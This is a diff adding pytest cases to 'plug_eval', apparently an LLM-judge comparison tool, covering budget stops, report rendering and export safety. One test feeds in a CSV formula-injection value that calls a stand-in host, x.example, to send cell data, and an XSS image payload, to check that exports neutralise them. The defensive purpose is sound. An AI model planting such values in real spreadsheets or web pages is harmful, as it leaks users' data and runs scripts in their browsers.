@@ -397,7 +397,82 @@ def test_case7_a_status_line_appears_within_2_seconds(tmp_path):
     proc = conftest_judge.cli_subprocess("compare", str(a), str(b), "--judge", "rules", "--out", str(tmp_path / "run"))
     try:
         first = proc.stderr.readline() if proc.stderr else ""
-        assert time.monotonic() - started < 2.0 and first.startswith("plug-judge: preparing"), first
+        assert time.monotonic() - started < 2.0, first
+        assert first.startswith(("plug-judge: preparing", "plug-judge: note", "judging [")), first
     finally:
         proc.communicate(timeout=60)
     assert proc.returncode == 0
+
+
+# --------------------------------------------------------------------------- case 9: stopped runs say so
+
+
+def test_case9_a_budget_stopped_run_reads_as_stopped_with_pending_items_not_unscored(fake, tmp_path):
+    prices = write_json(tmp_path / "prices.json", {"fair": {"input": 1000.0, "output": 1000.0}})
+    a, b = pair_files(tmp_path, n=10)
+    run = tmp_path / "run"
+    code, out, err = compare(a, b, run, "openai:fair", fake.openai, "--prices", str(prices), "-J", "max_tokens=50",
+                             "--concurrency", "1", "--max-cost", "3")
+    assert code == 0, err
+    s = summary(run)
+    assert s["run"]["stopped"] == "budget" and s["pending"] > 0
+    assert s["unscored"] == 0 and s["n_scored"] + s["pending"] == 10  # the fair judge left nothing unscored
+    assert f"{s['pending']} pending" in out and "STOPPED (budget)" in out
+    code, _, err = run_cli("report", str(run), "--out", str(tmp_path / "rep" / "report.html"))
+    assert code == 0, err
+    page = (tmp_path / "rep" / "report.html").read_text("utf-8")
+    top = page.split("<main>", 1)[0]
+    assert "1 comparison not finished" in top and "stopped (budget)" in top and f"{s['pending']} items pending" in top
+    row = page.split('data-comparison="', 1)[1].split("</tr>", 1)[0]
+    assert "stopped (budget)" in row and f"{s['pending']} pending" in row
+    assert f"<b>{s['n_items'] - s['pending']}</b><span>items judged" in top
+
+
+# --------------------------------------------------------------------------- case 10: exports are inert
+
+
+def test_case10_csv_cells_cannot_be_formulas_and_markdown_carries_no_html(tmp_path):
+    a = write_json(tmp_path / "a.json", _rows())
+    b = write_json(tmp_path / "b.json", _rows())
+    run = tmp_path / "run"
+    evil_a, evil_b = '=HYPERLINK("http://x.example/?"&A1,"click")', "<img src=x onerror=alert(1)>"
+    code, _, err = run_cli("compare", str(a), str(b), "--judge", "rules", "--out", str(run), "--quiet",
+                           "--name-a", evil_a, "--name-b", evil_b)
+    assert code == 0, err
+    code, _, err = run_cli("report", str(run), "--out", str(tmp_path / "rep" / "report.html"))
+    assert code == 0, err
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO((tmp_path / "rep" / "summary.csv").read_text("utf-8"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
+    assert "'" + evil_a in cells
+    md = (tmp_path / "rep" / "summary.md").read_text("utf-8")
+    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
+
+
+def test_case10_csv_safe_rule():
+    from plug_eval.reports.render import csv_safe
+
+    for bad in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_safe(bad).startswith("'")
+    assert csv_safe("plug-7b") == "plug-7b" and csv_safe(-1.5) == -1.5 and csv_safe(None) is None
+
+
+# --------------------------------------------------------------------------- case 2: flags and warnings shown
+
+
+def test_case2_flags_are_shown_beside_the_system_and_many_unscored_warn(fake, tmp_path):
+    a = write_json(tmp_path / "sut.json", [dict(r, output=r["output"] + EXAMPLE_FORMAT) for r in answers(4, 1)])
+    b = write_json(tmp_path / "base.json", answers(4, 3))
+    assert compare(b, a, tmp_path / "run", "openai:final", fake.openai)[0] == 0
+    code, out, err = compare(b, a, tmp_path / "garbage", "openai:garbage", fake.openai)
+    assert code == 0 and "WARNING: 100% of items unscored" in out, out
+    code, _, err = run_cli("report", str(tmp_path / "run"), "--out", str(tmp_path / "rep" / "report.html"))
+    assert code == 0, err
+    page = (tmp_path / "rep" / "report.html").read_text("utf-8")
+    row = page.split('data-comparison="', 1)[1].split("</tr>", 1)[0]
+    assert "injection 8" in row and "verdict_matches_answer_text 8" in row
+    leaderboard = page.split('id="leaderboard"', 1)[1].split("</table>", 1)[0]
+    assert "injection 8" in leaderboard
